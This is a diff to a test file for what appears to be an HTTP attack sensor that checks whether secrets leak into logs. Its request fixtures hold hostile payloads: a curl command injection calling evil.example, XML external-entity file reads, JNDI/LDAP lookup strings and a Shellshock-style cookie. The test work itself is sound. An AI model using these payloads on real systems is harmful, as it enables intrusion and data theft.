@@ -73,6 +73,8 @@ ROWS = {
         "payload in logs, messages and core dumps",
         guards=(
             Guard("sensor/http/attacks.py", "return found[0] if whole is None else whole[0]", "return text"),
+            Guard("sensor/http/refusal.py", "None if side.spoke else line", "line"),
+            Guard("sensor/http/chunks.py", "shown[0] or None if shown is not None else None", "data[pos : pos + 64]"),
             Guard("sensor/http/lookups.py", "_BORDER.split(lookup[:MAX_LOOKUP], 1)[0]", "lookup"),
             Guard(
                 "sensor/http/attacks.py",
@@ -276,6 +278,9 @@ BESIDE = {
     "json, command": post(b"/b", b'{"q":"|curl http://evil.example/x","password":"HUNTER2"}', JSON),
     "xml": post(b"/c", b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]><a><password>HUNTER2</password></a>", XML),
     "xml, entity": post(b"/c", b"<!DOCTYPE a [<!ENTITY b 'HUNTER2'>]><a><password>&b;</password></a>", XML),
+    "no length": get(b"/d", b"Cookie: a=${jndi:ldap://evil.example/a}") + b"password=HUNTER2\r\nHUNTER2\r\n",
+    "no chunks": get(b"/d", b"Cookie: a=${jndi:x://a/a}", b"Transfer-Encoding: chunked")
+    + b"password=HUNTER2\r\nHUNTER2\r\n",
     "cookie": get(b"/d", b"Cookie: sid=HUNTER2; x=${jndi:ldap://evil.example/a}; y=HUNTER2"),
     "cookie, no blanks": get(b"/d", b"Cookie: sid=HUNTER2;x=${jndi:ldap://evil.example/a;y=HUNTER2"),
     "cookie, function": get(b"/d", b"Cookie: () { HUNTER2; }; sid=HUNTER2"),
